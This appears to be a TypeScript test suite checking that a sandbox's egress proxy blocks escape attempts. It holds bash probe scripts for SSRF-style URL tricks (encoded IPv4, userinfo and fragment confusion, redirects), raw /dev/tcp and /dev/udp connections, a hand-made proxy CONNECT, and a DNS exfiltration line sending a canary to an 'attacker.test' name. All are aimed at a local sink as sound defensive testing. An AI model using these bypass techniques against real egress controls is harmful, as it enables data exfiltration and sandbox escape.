import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { BwrapLauncher, PlainLauncher, runToEnd } from '../../../src/sandbox/index.ts';
import type { EgressEvent } from '../../../src/sandbox/index.ts';
import { HAS_CURL, sandboxUnavailable, startSink } from './helpers.ts';
import type { Sink } from './helpers.ts';

const unavailable = sandboxUnavailable();
const CANARY = 'CANARY7f3a9c';

/** Egress probes (§1F, §1H): a bash script exiting 0 when the sink was reached. */
interface EgressProbe {
  readonly id: string;
  readonly title: string;
  readonly script: string;
  /** Which sink counter the control must increase (and the sandbox must not). */
  readonly counter: 'tcp' | 'udp';
}

const curl = 'curl -s -o /dev/null -m 5 --fail';
const PROBES: EgressProbe[] = [
  {
    id: 'SS-3',
    title: 'loopback literal on a port that is not allowed',
    script: `${curl} http://127.0.0.1:$S/`,
    counter: 'tcp',
  },
  { id: 'SS-2', title: 'decimal IPv4 encoding', script: `${curl} http://2130706433:$S/`, counter: 'tcp' },
  { id: 'SS-2', title: 'hex IPv4 encoding', script: `${curl} http://0x7f000001:$S/`, counter: 'tcp' },
  { id: 'SS-2', title: 'octal IPv4 encoding', script: `${curl} http://0177.0.0.1:$S/`, counter: 'tcp' },
  { id: 'SS-2', title: 'short IPv4 form 127.1', script: `${curl} http://127.1:$S/`, counter: 'tcp' },
  { id: 'SS-2', title: 'unspecified address 0.0.0.0', script: `${curl} http://0.0.0.0:$S/`, counter: 'tcp' },
  {
    id: 'SS-4',
    title: 'a name (localhost) that resolves to loopback, even when allow-listed',
    script: `${curl} http://localhost:$S/`,
    counter: 'tcp',
  },
  {
    id: 'SS-5',
    title: 'redirect from an allowed host to the sink',
    script: `${curl} -L http://127.0.0.1:$A/redirect`,
    counter: 'tcp',
  },
  {
    id: 'SS-6',
    title: 'userinfo naming the allowed host',
    script: `${curl} "http://127.0.0.1:$A@127.0.0.1:$S/"`,
    counter: 'tcp',
  },
  {
    id: 'SS-6',
    title: 'fragment trick',
    script: `${curl} "http://127.0.0.1:$S/#@127.0.0.1:$A"`,
    counter: 'tcp',
  },
  {
    id: 'SS-6',
    title: 'HTTPS CONNECT to the sink',
    script: `curl -s -o /dev/null -m 5 -k https://127.0.0.1:$S/; [ "$(echo $?)" != 7 ] && [ "$(echo $?)" != 56 ]`,
    counter: 'tcp',
  },
  {
    id: 'SS-7',
    title: 'hand-made CONNECT through the relay to a non-allow-listed authority',
    script:
      'if [ -n "$http_proxy" ]; then exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT 127.0.0.1:%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" "$S" >&3; read -r l <&3; case "$l" in *" 200 "*) exit 0;; *) exit 1;; esac; else exec 3<>/dev/tcp/127.0.0.1/$S; fi',
    counter: 'tcp',
  },
  { id: 'SS-8', title: 'raw TCP to the sink', script: 'exec 3<>/dev/tcp/127.0.0.1/$S', counter: 'tcp' },
  {
    id: 'SS-8',
    title: 'UDP datagram to the sink (DNS/QUIC stand-in)',
    script: 'printf query >/dev/udp/127.0.0.1/$U',
    counter: 'udp',
  },
  {
    id: 'SS-9',
    title: 'a client ignoring the proxy variables',
    script: `${curl} --noproxy '*' http://127.0.0.1:$S/`,
    counter: 'tcp',
  },
  {
    id: 'EX-1',
    title: 'DNS query carrying the canary to the sink resolver',
    script: `printf '${CANARY}.x.attacker.test' >/dev/udp/127.0.0.1/$U`,
    counter: 'udp',
  },
];

describe(
  'egress proxy from inside the sandbox (§1F, §1H)',
  {
    skip:
      unavailable ??
      (HAS_CURL ? undefined : 'curl is not installed (the probes use it as a proxy-aware client)'),
  },
  () => {
    let sink: Sink;
    let allowed: Server;
    let A = 0;
    const events: EgressEvent[] = [];
    const resolved: string[] = [];
    let sandbox: BwrapLauncher;

    before(async () => {
      sink = await startSink();
      allowed = createServer((req, res) => {
        if (req.url === '/redirect')
          res.writeHead(302, { location: `http://127.0.0.1:${sink.tcpPort}/` }).end();
        else res.end('allowed');
      });
      await new Promise<void>((r) => allowed.listen(0, '127.0.0.1', r));
      A = (allowed.address() as { port: number }).port;
      sandbox = new BwrapLauncher({
        profile: {
          egress: {
            allowHosts: [`127.0.0.1:${A}`, 'localhost', '*.allowed.test'],
            allowPorts: [sink.tcpPort],
          },
        },
        onEgress: (e) => events.push(e),
        resolve: (h) => {
          resolved.push(h);
          return h === 'localhost' ? Promise.resolve(['127.0.0.1']) : Promise.reject(new Error('ENOTFOUND'));
        },
        inspectUrl: (u) => (u.includes(CANARY) ? 'dlp-canary-in-url' : undefined),
      });
    });

    after(async () => {
      allowed.closeAllConnections();
      await new Promise<void>((r) => allowed.close(() => r()));
      await sink.close();
    });

    const env = { PATH: '/usr/bin:/bin', S: '', U: '', A: '' };
    const vars = (): Record<string, string> => ({
      ...env,
      S: String(sink.tcpPort),
      U: String(sink.udpPort),
      A: String(A),
    });

    for (const p of PROBES) {
      it(`[${p.id}] ${p.title}: the control reaches the sink, the sandbox does not`, async () => {
        const spec = { command: '/bin/bash', args: ['--norc', '-c', p.script], env: vars(), label: p.id };
        const c0 = sink[p.counter];
        await runToEnd(new PlainLauncher(), spec);
        await new Promise((r) => setTimeout(r, 50));
        assert.ok(sink[p.counter] > c0, 'positive control did not reach the sink: the probe proves nothing');
        const s0 = sink[p.counter];
        await runToEnd(sandbox, spec);
        await new Promise((r) => setTimeout(r, 50));
        assert.equal(sink[p.counter], s0, 'ESCAPE: the sandbox reached the sink');
      });
    }

    it('reaches the allow-listed loopback host with curl, fetch and http.get, and reports it', async () => {
      const js = `(async () => {
      const r = await fetch('http://127.0.0.1:${A}/f'); console.log('fetch', r.status, await r.text());
      require('node:http').get('http://127.0.0.1:${A}/h', (res) => { let b=''; res.on('data', d => b += d); res.on('end', () => console.log('http', res.statusCode, b)); });
    })()`;
      const r = await runToEnd(sandbox, {
        command: '/usr/bin/node',
        args: ['-e', js],
        env: {},
        label: 'fetch',
      });
      assert.match(r.stdout, /fetch 200 allowed/);
      assert.match(r.stdout, /http 200 allowed/);
      const c = await runToEnd(sandbox, {
        command: '/usr/bin/curl',
        args: ['-s', '-m', '5', `http://127.0.0.1:${A}/c`],
        env: {},
        label: 'curl',
      });
      assert.equal(c.stdout, 'allowed');
      const ok = events.filter((e) => e.allowed && e.port === A && e.bytesIn > 0);
      assert.ok(ok.length >= 3 && ok.every((e) => e.sandboxId.startsWith('sbx-')));
    });

    it('fetch from Node to a refused host fails and is reported with its reason (deny twin)', async () => {
      const js = `fetch('http://127.0.0.1:${sink.tcpPort + 1}/').then(() => console.log('reached'), () => console.log('refused'))`;
      const before = sink.tcp;
      const r = await runToEnd(sandbox, {
        command: '/usr/bin/node',
        args: ['-e', js],
        env: {},
        label: 'fetch-deny',
      });
      assert.equal(r.stdout.trim(), 'refused');
      assert.equal(sink.tcp, before);
      assert.ok(
        events.some((e) => !e.allowed && e.port === sink.tcpPort + 1 && e.reason === 'port-not-allowed'),
      );
    });

    it('[SS-4] a name resolving to loopback is refused with a resolves-to reason', () => {
      assert.ok(
        events.some((e) => !e.allowed && e.host === 'localhost' && e.reason.startsWith('resolves-to-')),
      );
    });

    it('[EX-1] a non-allow-listed name is refused before any resolution', async () => {
      const r = await runToEnd(sandbox, {
        command: '/usr/bin/curl',
        args: ['-s', '-m', '5', `http://${CANARY}.notallowed.test/`],
        env: {},
        label: 'ex1',
      });
      assert.notEqual(r.stdout, 'allowed');
      assert.ok(
        events.some(
          (e) => e.host === `${CANARY.toLowerCase()}.notallowed.test` && e.reason === 'not-allow-listed',
        ),
      );
      assert.equal(
        resolved.filter((h) => h.includes('notallowed')).length,
        0,
        'the proxy resolved a refused name',
      );
      assert.ok(resolved.includes('localhost'), 'control: allowed names are resolved (the log works)');
    });

    it('[EX-2] a plain-HTTP URL carrying the canary is refused by the DLP hook; without it passes', async () => {
      const deny = await runToEnd(sandbox, {
        command: '/usr/bin/curl',
        args: ['-s', '-m', '5', `http://127.0.0.1:${A}/search?q=${CANARY}`],
        env: {},
        label: 'ex2',
      });
      assert.notEqual(deny.stdout, 'allowed');
      assert.ok(events.some((e) => e.reason === 'dlp-canary-in-url'));
      const pass = await runToEnd(sandbox, {
        command: '/usr/bin/curl',
        args: ['-s', '-m', '5', `http://127.0.0.1:${A}/search?q=weather`],
        env: {},
        label: 'ex2-twin',
      });
      assert.equal(pass.stdout, 'allowed');
    });
  },
);
